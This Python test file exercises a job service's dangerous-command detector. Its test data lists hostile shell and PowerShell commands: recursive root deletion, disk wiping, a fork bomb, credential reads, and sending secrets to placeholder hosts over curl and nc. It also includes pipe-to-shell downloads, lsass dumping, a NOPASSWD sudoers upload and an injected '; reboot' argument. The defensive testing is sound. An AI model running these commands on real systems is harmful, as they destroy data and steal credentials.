"""Dangerous-command rules (pure): what each rule catches, what it must leave alone, configuration."""

from __future__ import annotations

import re

import pytest

from opsconductor_jobs import service
from opsconductor_jobs.service import (
    JobDraft,
    ScriptDraft,
    StepDraft,
    TransferDraft,
    danger,
    find_dangerous,
    preview_dangerous,
    render_step,
    validate_job,
)
from opsconductor_jobs.service.danger import (
    BUILTIN_RULES,
    CODE,
    READ_PATH,
    WRITE_PATH,
    build_rules,
    scan_text,
)
from opsconductor_jobs.service.render import ParameterDef
from opsconductor_shared import runplan

RULES = build_rules()


def rules_hit(text: str, kind: str = CODE) -> set[str]:
    return {rule.id for rule, _ in scan_text(text, RULES, kind)}


DANGEROUS = [
    # destructive filesystem
    ("rm -rf /", "fs.rm-recursive-root"),
    ("rm -fr /*", "fs.rm-recursive-root"),
    ("rm -r -f /", "fs.rm-recursive-root"),
    ("rm --recursive --force /", "fs.rm-recursive-root"),
    ("sudo rm -rf /etc", "fs.rm-recursive-root"),
    ("/bin/rm -Rf /usr/", "fs.rm-recursive-root"),
    ("rm -rf ~", "fs.rm-recursive-root"),
    ("rm -rf $HOME/*", "fs.rm-recursive-root"),
    ('rm -rf "/"', "fs.rm-recursive-root"),
    ("cd /tmp && rm -rf /var", "fs.rm-recursive-root"),
    ("rm -rf /tmp/a /home", "fs.rm-recursive-root"),
    ("echo start\nrm -rf / \necho done", "fs.rm-recursive-root"),
    ("rm -rf \\\n  /", "fs.rm-recursive-root"),
    ("rm -rf --no-preserve-root /", "fs.no-preserve-root"),
    ("chmod -R 777 /", "fs.recursive-permissions-root"),
    ("chown -R nobody /etc", "fs.recursive-permissions-root"),
    ("find / -name '*.log' -delete", "fs.find-delete-root"),
    ("find / -type f -exec rm {} +", "fs.find-delete-root"),
    ("echo > /etc/passwd", "fs.truncate-system-file"),
    ("cat x > /etc/sudoers", "fs.truncate-system-file"),
    # disks
    ("mkfs.ext4 /dev/sdb1", "disk.mkfs"),
    ("mkfs -t xfs /dev/vdb", "disk.mkfs"),
    ("sudo mke2fs /dev/sdc", "disk.mkfs"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "disk.dd-device"),
    ("dd if=image.iso of=/dev/nvme0n1", "disk.dd-device"),
    ("cat /dev/urandom > /dev/sda", "disk.redirect-device"),
    ("wipefs -a /dev/sdb", "disk.wipe"),
    ("sgdisk --zap-all /dev/sda", "disk.wipe"),
    ("shred -n 3 /dev/sdb", "disk.wipe"),
    ("parted /dev/sda mklabel gpt", "disk.wipe"),
    ("blkdiscard /dev/nvme0n1", "disk.wipe"),
    # power
    ("shutdown -h now", "power.shutdown"),
    ("sudo shutdown -r +5", "power.shutdown"),
    ("reboot", "power.shutdown"),
    ("apt-get -y upgrade && reboot", "power.shutdown"),
    ("halt", "power.shutdown"),
    ("/sbin/poweroff", "power.shutdown"),
    ("init 0", "power.shutdown"),
    ("init 6", "power.shutdown"),
    ("systemctl reboot", "power.shutdown"),
    ("systemctl --force poweroff", "power.shutdown"),
    ("echo b > /proc/sysrq-trigger", "power.shutdown"),
    ("if true; then reboot; fi", "power.shutdown"),
    ("shutdown /s /t 0", "power.shutdown"),
    # fork bomb
    (":(){ :|:& };:", "process.fork-bomb"),
    (":() { : | : & }; :", "process.fork-bomb"),
    ("bomb(){ bomb|bomb& };bomb", "process.fork-bomb"),
    # credentials
    ("cat /etc/shadow", "cred.shadow"),
    ("cp /etc/gshadow /tmp/x", "cred.shadow"),
    ("cat ~/.ssh/id_rsa", "cred.ssh-private-key"),
    ("base64 /root/.ssh/id_ed25519", "cred.ssh-private-key"),
    ("tar cz /home/bob/.ssh/id_ecdsa", "cred.ssh-private-key"),
    ("cat /etc/ssh/ssh_host_rsa_key", "cred.ssh-private-key"),
    ("cat ~/.aws/credentials", "cred.credential-file"),
    ("curl -d @/etc/passwd http://198.51.100.1/", "cred.secret-over-network"),
    ("curl --data-binary @$HOME/.bash_history http://x", "cred.secret-over-network"),
    ("curl 'http://x/?k='$AWS_SECRET_ACCESS_KEY", "cred.secret-over-network"),
    ("wget http://x/$DB_PASSWORD", "cred.secret-over-network"),
    ("env | nc 203.0.113.9 4444", "cred.secret-over-network"),
    ("printenv | curl -X POST -d @- http://x", "cred.secret-over-network"),
    ("curl -fsSL https://get.example.com | sh", "net.pipe-to-shell"),
    ("curl -s https://x | sudo bash", "net.pipe-to-shell"),
    ("wget -qO- https://x | python3", "net.pipe-to-shell"),
    ("bash <(curl -s https://x)", "net.pipe-to-shell"),
    ("iwr https://x/a.ps1 | iex", "net.pipe-to-shell"),
    ("IEX (New-Object Net.WebClient).DownloadString('https://x')", "net.pipe-to-shell"),
    # PowerShell / Windows
    ("Remove-Item -Recurse -Force C:\\", "win.remove-recursive-root"),
    ("Remove-Item C:\\ -Recurse", "win.remove-recursive-root"),
    ("Remove-Item -Path 'C:\\Windows' -Recurse -Force", "win.remove-recursive-root"),
    ("remove-item -recurse $env:SystemRoot", "win.remove-recursive-root"),
    ("rm -r -fo C:\\*", "win.remove-recursive-root"),
    ("rd /s /q C:\\", "win.remove-recursive-root"),
    ("Format-Volume -DriveLetter D -FileSystem NTFS", "win.format-volume"),
    ("Clear-Disk -Number 1 -RemoveData", "win.format-volume"),
    ("format C: /q", "win.format-volume"),
    ("diskpart /s wipe.txt", "win.format-volume"),
    ("Stop-Computer -Force", "power.stop-computer"),
    ("Restart-Computer", "power.stop-computer"),
    ("reg save HKLM\\SAM C:\\sam.hive", "cred.windows-dump"),
    ("procdump -ma lsass.exe out.dmp", "cred.windows-dump"),
    ("Invoke-Mimikatz", "cred.windows-dump"),
]

SAFE = [
    "echo hello; hostname",
    "uptime",
    "apt-get update && apt-get -y upgrade",
    "rm -rf /tmp/build",
    "rm -rf ./dist /var/tmp/cache",
    "rm -f /var/log/app.log",
    "rm -rf ~/.cache/pip",
    "rm -r build/",
    "ls -la /",
    "du -sh /var",
    "cat /etc/passwd",
    "cat ~/.ssh/id_rsa.pub",
    "cat ~/.ssh/authorized_keys",
    "echo reboot required",
    "grep -c shutdown /var/log/syslog",
    "systemctl restart nginx",
    "systemctl status reboot.target --no-pager",
    "dd if=/dev/zero of=/tmp/file bs=1M count=10",
    "dd if=/dev/sda of=/dev/null bs=1M count=1",
    "echo x >> /etc/fstab",
    "mkdir -p /srv/app",
    "curl -fsSL https://example.com/health",
    "curl -o /tmp/x.sh https://x && sha256sum /tmp/x.sh",
    "chmod -R 755 /srv/app",
    "find /var/log -name '*.gz' -delete",
    "Remove-Item -Recurse C:\\temp\\build",
    "Get-Volume",
    "Get-ChildItem C:\\",
    "Restart-Service -Name Spooler",
    "python3 -m http.server",
    "journalctl -u kubelet --since -1h",
    "initctl list",
    "docker run --init alpine",
]


@pytest.mark.parametrize(("text", "rule"), DANGEROUS)
def test_dangerous_text_is_found(text: str, rule: str) -> None:
    assert rule in rules_hit(text), text


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_commands_are_not_flagged(text: str) -> None:
    assert rules_hit(text) == set(), text


def test_every_builtin_rule_has_a_positive_case() -> None:
    covered = {rule for _, rule in DANGEROUS}
    assert {r.id for r in BUILTIN_RULES} - covered <= {"transfer.system-path"}  # that one: paths below


def test_rule_ids_are_unique_and_reasons_readable() -> None:
    ids = [r.id for r in BUILTIN_RULES]
    assert len(ids) == len(set(ids))
    assert all(r.reason and re.match(r"^[a-z]+\.[a-z0-9-]+$", r.id) for r in BUILTIN_RULES)


def test_path_kinds() -> None:
    assert rules_hit("/etc/sudoers", WRITE_PATH) == {"transfer.system-path"}
    assert rules_hit("/root/.ssh/authorized_keys", WRITE_PATH) == {"transfer.system-path"}
    assert rules_hit("/etc/shadow", WRITE_PATH) == {"cred.shadow"}
    assert rules_hit("C:\\Windows\\System32\\drivers\\x.sys", WRITE_PATH) == {"transfer.system-path"}
    assert rules_hit("/srv/app/config.yml", WRITE_PATH) == set()
    assert rules_hit("/home/bob/.ssh/id_rsa", READ_PATH) == {"cred.ssh-private-key"}
    assert rules_hit("/var/log/syslog", READ_PATH) == set()
    # Code rules do not apply to plain paths, path rules not to code.
    assert rules_hit("/", WRITE_PATH) == set()
    assert rules_hit("cp x /etc/sudoers") == set()


def test_match_is_the_segment_and_clipped() -> None:
    hits = scan_text("echo one; sudo rm -rf / ; echo two", RULES)
    assert [(r.id, m) for r, m in hits] == [("fs.rm-recursive-root", "sudo rm -rf /")]
    long = "rm -rf / " + "x" * 500
    assert len(scan_text(long, RULES)[0][1]) == danger.MATCH_MAX


def test_disabled_rules_and_site_rules() -> None:
    rules = build_rules(
        disabled=["power.shutdown"], extra={"site.kubectl-delete-ns": r"kubectl\s+delete\s+ns\b"}
    )
    ids = {rule.id for rule, _ in scan_text("reboot; kubectl delete ns prod", rules)}
    assert ids == {"site.kubectl-delete-ns"}
    assert build_rules(disabled=["site.x"], extra={"site.x": "a"}) == BUILTIN_RULES
    with pytest.raises(re.error):
        build_rules(extra={"bad": "("})


def test_settings_reject_a_broken_site_pattern() -> None:
    from pydantic import ValidationError as PydanticValidationError

    from opsconductor_jobs.settings import Settings

    with pytest.raises(PydanticValidationError, match="invalid regular expression"):
        Settings(danger_extra_rules={"bad": "(unclosed"})


# ---- steps ------------------------------------------------------------------------------------


def test_findings_per_step_one_per_rule() -> None:
    job = validate_job(
        JobDraft(
            name="j",
            target_ids=["t"],
            steps=[
                StepDraft("safe", "uptime"),
                StepDraft("wipe", "rm -rf /; rm -rf /etc; mkfs /dev/sdb"),
                StepDraft("ps", type="script", script=ScriptDraft("powershell", "Stop-Computer -Force")),
                StepDraft(
                    "keys",
                    type="file_transfer",
                    transfer=TransferDraft("download", "key", source="/root/.ssh/id_rsa"),
                ),
                StepDraft(
                    "sudoers",
                    type="file_transfer",
                    transfer=TransferDraft(
                        "upload", "/etc/sudoers.d/ops", content="ops ALL=(ALL) NOPASSWD:ALL"
                    ),
                ),
                StepDraft(
                    "exec-upload",
                    type="file_transfer",
                    transfer=TransferDraft("upload", "/tmp/x.sh", content="#!/bin/sh\nreboot\n", mode="0755"),
                ),
                StepDraft(
                    "plain-upload",
                    type="file_transfer",
                    transfer=TransferDraft(
                        "upload", "/tmp/notes.txt", content="remember to reboot\nreboot\n"
                    ),
                ),
            ],
        )
    )
    findings = find_dangerous(job.steps, RULES)
    assert [(f.step_name, f.rule) for f in findings] == [
        ("wipe", "fs.rm-recursive-root"),
        ("wipe", "disk.mkfs"),
        ("ps", "power.stop-computer"),
        ("keys", "cred.ssh-private-key"),
        ("sudoers", "transfer.system-path"),
        ("exec-upload", "power.shutdown"),
    ]
    assert findings[0].to_json() == {
        "stepName": "wipe",
        "rule": "fs.rm-recursive-root",
        "reason": findings[0].reason,
        "match": "rm -rf /",
    }


def test_detection_runs_on_rendered_steps() -> None:
    """`rm -rf {{ dir }}/` is harmless as a template; with dir='' the rendered step is not."""
    job = validate_job(
        JobDraft(
            name="j",
            target_ids=["t"],
            parameters=[ParameterDef(name="dir"), ParameterDef(name="cmd", default="reboot")],
            steps=[
                StepDraft("clean", type="script", script=ScriptDraft("bash", "rm -rf /{{ dir }}")),
                StepDraft("args", type="script", script=ScriptDraft("bash", 'exec "$@"', ["{{ cmd }}"])),
            ],
        )
    )
    # Defaults only: dir has none, so the preview uses a marker word and finds nothing in step 1;
    # the argument default 'reboot' is visible.
    assert [(f.step_name, f.rule) for f in preview_dangerous(job, RULES)] == [("args", "power.shutdown")]
    # An empty value makes the path the root, and the rule sees the rendered text.
    rendered = [render_step(s, {"dir": "", "cmd": "true"}) for s in job.steps]
    assert rendered[0].script is not None and rendered[0].script.body == "rm -rf /''"
    assert [f.rule for f in find_dangerous(rendered, RULES)] == ["fs.rm-recursive-root"]
    rendered = [render_step(s, {"dir": "srv/app", "cmd": "true"}) for s in job.steps]
    assert find_dangerous(rendered, RULES) == []


def test_quoted_values_still_reach_the_rules() -> None:
    """Quoting keeps a value one word; the word itself can still be the dangerous part."""
    job = validate_job(
        JobDraft(
            name="j",
            target_ids=["t"],
            parameters=[ParameterDef(name="dir")],
            steps=[StepDraft("clean", "rm -rf {{ dir }}")],
        )
    )
    rendered = [render_step(s, {"dir": "/"}) for s in job.steps]
    assert rendered[0].command == "rm -rf /"
    assert [f.rule for f in find_dangerous(rendered, RULES)] == ["fs.rm-recursive-root"]
    rendered = [render_step(s, {"dir": "/srv/app/cache; reboot"}) for s in job.steps]
    assert rendered[0].command == "rm -rf '/srv/app/cache; reboot'"


def test_service_limits_are_consistent() -> None:
    assert service.COMMAND_MAX_BYTES == 64 * 1024
    assert set(runplan.INTERPRETERS) == {"bash", "sh", "powershell", "python"}
